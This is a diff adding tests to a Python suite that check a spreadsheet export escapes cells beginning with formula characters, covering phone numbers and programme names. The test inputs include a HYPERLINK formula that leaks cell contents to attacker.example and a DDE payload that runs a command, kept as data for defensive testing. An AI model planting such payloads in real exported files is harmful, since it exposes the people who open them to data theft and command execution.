@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 import json
 from pathlib import Path
@@ -68,3 +69,20 @@ def test_frictionless_catches_a_wrong_cell(tmp_path: Path) -> None:
     (tmp_path / "datapackage.json").write_text(json_text(spreadsheet.data_package(BASE_URL)), encoding="utf-8")
     report = frictionless.validate(str(tmp_path / "datapackage.json"))
     assert not report.valid and "type-error" in {error[2] for error in report.flatten(["rowNumber", "fieldName", "type"])}
+
+
+def test_a_cell_that_starts_as_a_formula_is_text_but_numbers_and_phone_numbers_stay_as_written() -> None:
+    formula = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")'
+    for written in (formula, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tx", "\rx", "-"):
+        assert spreadsheet.safe_cell(written) == "'" + written
+    for written in ("-2", "+2", "2.5", "-2,5", "+44 20 7946 0000", "+44 (0)20 7946 0000", "Caring Dads", "", "2026-01-15"):
+        assert spreadsheet.safe_cell(written) == written
+
+
+def test_a_programme_named_as_a_formula_reaches_the_csv_as_text() -> None:
+    """A name the record allows (“=HYPERLINK(…)” holds no markup) opens in a spreadsheet as the words, not a link that leaks the sheet."""
+    view = fixture_views()[0]
+    formula = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")'
+    programme = view.programme.model_copy(update={"name": view.programme.name.model_copy(update={"en": formula})})
+    table = rows(spreadsheet.programmes_csv([dataclasses.replace(view, programme=programme)], BASE_URL))
+    assert table[0]["programme"] == "'" + formula
